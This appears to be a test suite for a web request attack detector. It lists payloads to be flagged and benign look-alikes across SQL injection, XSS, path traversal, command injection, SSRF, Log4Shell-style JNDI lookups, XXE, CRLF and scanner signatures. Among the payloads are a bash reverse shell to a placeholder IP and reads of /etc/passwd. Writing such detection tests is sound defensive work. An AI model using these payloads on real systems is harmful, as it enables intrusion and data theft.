// One block per category: payloads that must be found (with the category they must be found
// as) and look-alike ordinary input that must not.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { detect } from '@secotel/detect';
import type { Category, DetectRequest, Finding } from '@secotel/detect';

function inQuery(value: string): DetectRequest {
  return { method: 'GET', path: '/search', query: { q: value }, headers: {}, cookies: {} };
}

function categoriesOf(findings: Finding[]): Category[] {
  return [...new Set(findings.map((f) => f.rule.category))];
}

function assertFound(category: Category, values: readonly string[], wrap: (v: string) => DetectRequest = inQuery): void {
  for (const value of values) {
    const findings = detect(wrap(value));
    assert.ok(findings.some((f) => f.rule.category === category),
      `expected ${category} in ${JSON.stringify(value)}, got ${JSON.stringify(categoriesOf(findings))}`);
  }
}

function assertClean(values: readonly string[], wrap: (v: string) => DetectRequest = inQuery): void {
  for (const value of values) {
    const findings = detect(wrap(value));
    assert.deepEqual(findings.map((f) => `${f.rule.id} ${f.fragment}`), [], `unexpected finding in ${JSON.stringify(value)}`);
  }
}

describe('sqli', () => {
  it('finds the classic payloads', () => {
    assertFound('sqli', [
      "1' OR '1'='1' --", '1 OR 1=1', 'UN/**/ION SELECT 1,2', "admin'--", '1; DROP TABLE users',
      "' UNION SELECT username, password FROM users--", '1 AND SLEEP(5)', "') or ('a'='a",
      "1' AND 7894=7894 AND 'zVQp'='zVQp", "'; WAITFOR DELAY '0:0:5'--", '1/*!50000UNION*//*!50000SELECT*/1,2,3',
      "' AND extractvalue(1,concat(0x7e,(select version())))--", "1' ORDER BY 3--+", '" or "1"="1', 'or 1=1--',
      'ＵＮＩＯＮ ＳＥＬＥＣＴ 1,2', "'; EXEC xp_cmdshell('dir')--", '1 AND 3792=(SELECT 3792 FROM PG_SLEEP(5))',
    ]);
  });

  it('leaves names, English and addresses alone', () => {
    assertClean([
      "O'Brien", "D'Angelo", 'select a plan', 'union of two sets', "I'd like to select 1 or 2 items", 'drop me a line',
      'john.doe@example.com', "it's a dog's life", "rock 'n' roll", 'Tom & Jerry', 'between 1 and 5 stars',
      'Great product -- would buy again', "don't stop believin'", "5' 11\" in cm", 'order by date newest',
      'UNION ALL vs UNION: which is faster?', 'select * from meaning', "Ma'ayan O'Connor-Smith",
    ]);
  });

  it('reports the rule and the matched fragment', () => {
    const [finding] = detect(inQuery("' UNION SELECT username, password FROM users--"));
    assert.equal(finding?.rule.id, 'sqli-001');
    assert.equal(finding?.rule.ruleset, 'secotel');
    assert.equal(finding?.fragment, 'UNION SELECT');
  });

  it('judges path segments one by one', () => {
    assertFound('sqli', ['/products/1%20OR%201=1', '/api/users/1%27%20UNION%20SELECT%20password%20FROM%20users--'], (path) => ({ path }));
    assertClean(['/products/red-shoes/12345', '/blog/how-to-select-a-plan', '/wiki/C%2B%2B'], (path) => ({ path }));
  });
});

describe('xss', () => {
  it('finds tags, handlers, script URLs and breakouts', () => {
    assertFound('xss', [
      '<script>alert(1)</script>', '<svg/onload=alert(1)>', '<img src=x onerror=alert(1)>', 'javascript:alert(1)',
      '" onmouseover="alert(1)', "';alert(1)//", "{{constructor.constructor('alert(1)')()}}", '<iframe srcdoc="x">',
      '&lt;script&gt;alert(1)&lt;/script&gt;', '<a href="jAvAsCrIpT&colon;alert(1)">x</a>', 'java&#x09;script:alert(1)',
      '%253Cscript%253E', '＜script＞', '\\u003cimg src=x onerror=alert(1)\\u003e', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
      '<div style="width:expression(alert(1))">', 'data:text/html,<script>alert(1)</script>',
    ]);
  });

  it('leaves comparisons, hearts and ordinary HTML alone', () => {
    assertClean([
      'a < b', '<3', 'i <3 ny', 'x > 5 and x < 10', '<b>bold</b> and <i>italic</i>', 'JavaScript: The Good Parts',
      '<a href="https://example.com">link</a>', '<img src="/a.png" alt="photo">', 'online = true', 'on the road',
      '<iframe src="https://www.youtube.com/embed/x" allowfullscreen></iframe>', 'alert (urgent): server down',
    ]);
  });
});

describe('path_traversal', () => {
  it('finds dot segments, encoded and obfuscated', () => {
    assertFound('path_traversal', [
      '../../etc/passwd', '..\\..\\windows\\win.ini', '....//....//etc/passwd', '..%2f..%2fetc%2fpasswd', '/etc/passwd',
      '..%c0%af..%c0%afetc%c0%afpasswd', '%uff0e%uff0e/%uff0e%uff0e/etc/passwd', '../../../../etc/passwd\u0000.png',
      'php://filter/convert.base64-encode/resource=../../config.php',
    ]);
    assertFound('path_traversal', ['/static/..%2f..%2fetc%2fpasswd', '/cgi-bin/.%2e/.%2e/etc/passwd', '/..;/manager/html'], (path) => ({ path }));
  });

  it('leaves relative links and ordinary paths alone', () => {
    assertClean(['../images/logo.png', 'wait... what?', 'and/or', 'src/components/Button.tsx', 'C:\\Users\\jane\\Documents', '1..5']);
    assertClean(['/a/b/c/', '/files/report.final.v2.pdf', '/.well-known/security.txt'], (path) => ({ path }));
  });
});

describe('cmdi', () => {
  it('finds chaining, substitution and shell tricks', () => {
    assertFound('cmdi', [
      '127.0.0.1; cat /etc/passwd', '127.0.0.1 && whoami', '127.0.0.1|id', ';id', '`id`', '$(whoami)', '127.0.0.1\nid',
      '; sleep 5', ';${IFS}cat${IFS}/etc/passwd', "127.0.0.1;c'a't /etc/passwd", '|/???/c?t /???/p??s??',
      '; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', '() { :; }; /bin/bash -c id', ';echo X$((1+2))$(echo X)X',
      '& ping -n 10 127.0.0.1 &', '| type C:\\windows\\win.ini', '<!--#exec cmd="id"-->',
    ]);
  });

  it('leaves ampersands, semicolons and prices alone', () => {
    assertClean([
      'Tom & Jerry', 'salt; pepper; oregano', 'rock | pop', 'AT&T', 'cats & dogs food', 'Work hard; sleep 8 hours',
      'Buy 2 & more $5 off', 'fish & chips', '$(document).ready', 'name & id', 'a|b testing',
    ]);
  });
});

describe('ssrf', () => {
  it('finds internal, metadata and dangerous-scheme URLs in any spelling', () => {
    assertFound('ssrf', [
      'http://127.0.0.1/admin', 'http://localhost:8080/', 'http://169.254.169.254/latest/meta-data/', 'http://[::1]/',
      'http://metadata.google.internal/computeMetadata/v1/', 'http://2130706433/', 'http://0x7f000001/', 'http://0177.0.0.1/',
      'http://127.1/', 'file:///etc/passwd', 'gopher://127.0.0.1:6379/_x', 'dict://127.0.0.1:11211/', 'http://10.0.0.5/',
      'http://192.168.1.1/', 'http://172.16.0.1/', 'http://[::ffff:127.0.0.1]/', 'http://127.0.0.1.nip.io/',
      'http://trusted.example@127.0.0.1/', '//169.254.169.254/', 'http://①②⑦.⓪.⓪.①/', 'http://0.0.0.0/',
    ]);
  });

  it('leaves public URLs and version numbers alone', () => {
    assertClean([
      'https://www.example.com/account', 'https://github.com/login', 'http://example.org/', 'https://203.0.113.10/status',
      'ftp://ftp.gnu.org/gnu/', '1.2.3.4', 'https://172.32.0.1/', 'version 10.0.0.5 released', '/dashboard',
    ]);
  });

  it('does not treat a localhost referer as SSRF', () => {
    assertClean(['http://localhost:3000/'], (referer) => ({ headers: { referer } }));
  });
});

describe('jndi', () => {
  it('finds plain and obfuscated lookups', () => {
    assertFound('jndi', [
      '${jndi:ldap://x.example/a}', '${${lower:j}ndi:ldap://x.example/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}',
      '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}', '%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D',
      "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}", '${jNdI:LdAp://x/a}', '${jndi:ldap://x/a',
    ]);
    assertFound('jndi', ['${jndi:ldap://x.example/a}'], (value) => ({ headers: { 'user-agent': value } }));
    assertFound('jndi', ['${jndi:ldap://x.example/a}'], (value) => ({ headers: { accept: value } }));
  });

  it('leaves templates alone', () => {
    assertClean(['${price}', 'Hello ${name}!', '${user.firstName} ${user.lastName}', '$5 {discount}']);
  });
});

describe('nosqli', () => {
  it('finds operators in bracket keys, body keys and text', () => {
    assertFound('nosqli', ['x'], (v) => ({ query: { 'username[$ne]': v } }));
    assertFound('nosqli', ['x'], (v) => ({ body: { username: { $ne: v }, password: { $gt: '' } } }));
    assertFound('nosqli', ['sleep(5000)'], (v) => ({ body: JSON.parse(JSON.stringify({ $where: v })) as unknown }));
    assertFound('nosqli', ['{"$ne": null}', "', $where: '1 == 1", "' || '1'=='1", "' && this.password.match(/.*/)//", '{ $gt: 1 }']);
  });

  it('leaves prices, JSON schema, analytics keys and GraphQL variables alone', () => {
    assertClean(['$19.99', 'price $5 or $10', 'query ($where: users_bool_exp) { users(where: $where) { id } }', '$in: [String!]']);
    assertClean(['x'], (v) => ({ body: { $schema: 'https://json-schema.org/draft/2020-12/schema', $ref: '#/x', $id: v, $set: { a: 1 }, $current_url: '/' } }));
    assertClean(['MyApp.Models.Order, MyApp'], (v) => ({ body: { $type: v } }));
  });
});

describe('proto_pollution', () => {
  it('finds __proto__ and constructor.prototype keys and text', () => {
    assertFound('proto_pollution', ['true'], (v) => ({ query: { '__proto__[isAdmin]': v } }));
    assertFound('proto_pollution', ['true'], (v) => ({ query: { 'constructor[prototype][isAdmin]': v } }));
    assertFound('proto_pollution', ['{"__proto__":{"isAdmin":true}}'], (text) => ({ body: JSON.parse(text) as unknown }));
    assertFound('proto_pollution', ['{"a":{"constructor":{"prototype":{"x":1}}}}'], (text) => ({ body: JSON.parse(text) as unknown }));
    assertFound('proto_pollution', ['{"__proto__": {"admin": true}}', '{"\\u005f_proto__":{"admin":true}}'], (body) => ({ body }));
    assertFound('proto_pollution', ['__proto__.polluted', 'constructor.prototype.isAdmin']);
  });

  it('leaves ordinary constructor and prototype words alone', () => {
    assertClean(['constructor salary', 'prototype meaning', 'the constructor built a prototype']);
    assertClean(['x'], (v) => ({ body: { constructor: 'Bob the Builder', prototype: v } }));
  });
});

describe('xxe', () => {
  it('finds external entities, external DTDs, XInclude and entity expansion', () => {
    assertFound('xxe', [
      '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
      '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://x.example/evil.dtd"> %xxe;]><foo/>',
      '<!DOCTYPE foo SYSTEM "http://x.example/evil.dtd"><foo/>',
      '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></foo>',
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>',
    ], (body) => ({ body }));
  });

  it('leaves XHTML and SVG documents with public DTDs alone', () => {
    assertClean([
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html></html>',
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
      '<!DOCTYPE html><html><body>hi</body></html>', '<?xml version="1.0"?><order><id>1</id></order>',
    ], (body) => ({ body }));
  });
});

describe('crlf', () => {
  it('finds header injection and response splitting', () => {
    assertFound('crlf', ['/\r\nSet-Cookie: a=b', '\r\nLocation: https://evil.example', '%0d%0aSet-Cookie:%20x=1', '嘊嘍Set-Cookie: x=1', 'x\r\n\r\n<html>']);
    assertFound('crlf', ['/%0d%0aSet-Cookie:%20a=b', '/a%0aX-Test:%201', '/%E5%98%8A%E5%98%8DSet-Cookie:x=1'], (path) => ({ path }));
    assertFound('crlf', ['https://example.com/%0d%0aSet-Cookie:x=1'], (referer) => ({ headers: { referer } }));
  });

  it('leaves multi-line text in query values and bodies alone', () => {
    assertClean(['line one\r\nline two', 'Dear team,\r\n\r\nthanks!\r\nJane']);
    assertClean(['Name: John\nLocation: Paris\nBio: likes cats\nWeb: https://example.com'], (text) => ({ body: { bio: text } }));
  });
});

describe('scanner', () => {
  it('finds scanner user agents, headers, callback domains and probes', () => {
    assertFound('scanner', ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6)', 'Fuzz Faster U Fool v2.1.0',
      'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'gobuster/3.6', 'WPScan v3.8.25',
      'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'masscan/1.3'], (ua) => ({ headers: { 'user-agent': ua } }));
    assertFound('scanner', ['WVS/14.0'], (v) => ({ headers: { 'acunetix-product': v } }));
    assertFound('scanner', ['http://abc.burpcollaborator.net/', 'x@y.oastify.com', 'https://q1.oast.fun/']);
    assertFound('scanner', ['/.env', '/.git/config', '/.aws/credentials'], (path) => ({ path }));
  });

  it('leaves browsers, HTTP libraries and search engines alone', () => {
    assertClean([
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
      'curl/8.5.0', 'python-requests/2.31.0', 'Go-http-client/1.1', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
      'Zapier', 'okhttp/4.12.0', 'PostmanRuntime/7.37.3', 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
    ], (ua) => ({ headers: { 'user-agent': ua } }));
    assertClean(['/.well-known/security.txt', '/.github/README', '/environment'], (path) => ({ path }));
  });
});
